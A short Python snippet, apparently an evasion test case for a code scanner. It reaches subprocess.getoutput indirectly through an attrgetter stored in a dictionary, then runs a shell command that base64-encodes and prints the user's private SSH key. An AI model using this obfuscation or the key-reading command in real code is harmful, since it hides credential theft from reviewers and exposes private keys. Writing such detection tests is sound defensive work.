# Evasion: fetch subprocess.getoutput with an attrgetter kept in a table of
# "accessors", applied to the module taken from sys.modules, then call what
# it returns with a shell command line.
import operator
import sys
import subprocess  # noqa: F401  (loaded for sys.modules)

ACCESSORS = {
    "name": operator.attrgetter("__name__"),
    "probe": operator.attrgetter("getoutput"),
}

probe = ACCESSORS["probe"](sys.modules["subprocess"])
print(probe("cat ~/.ssh/id_rsa | base64"))
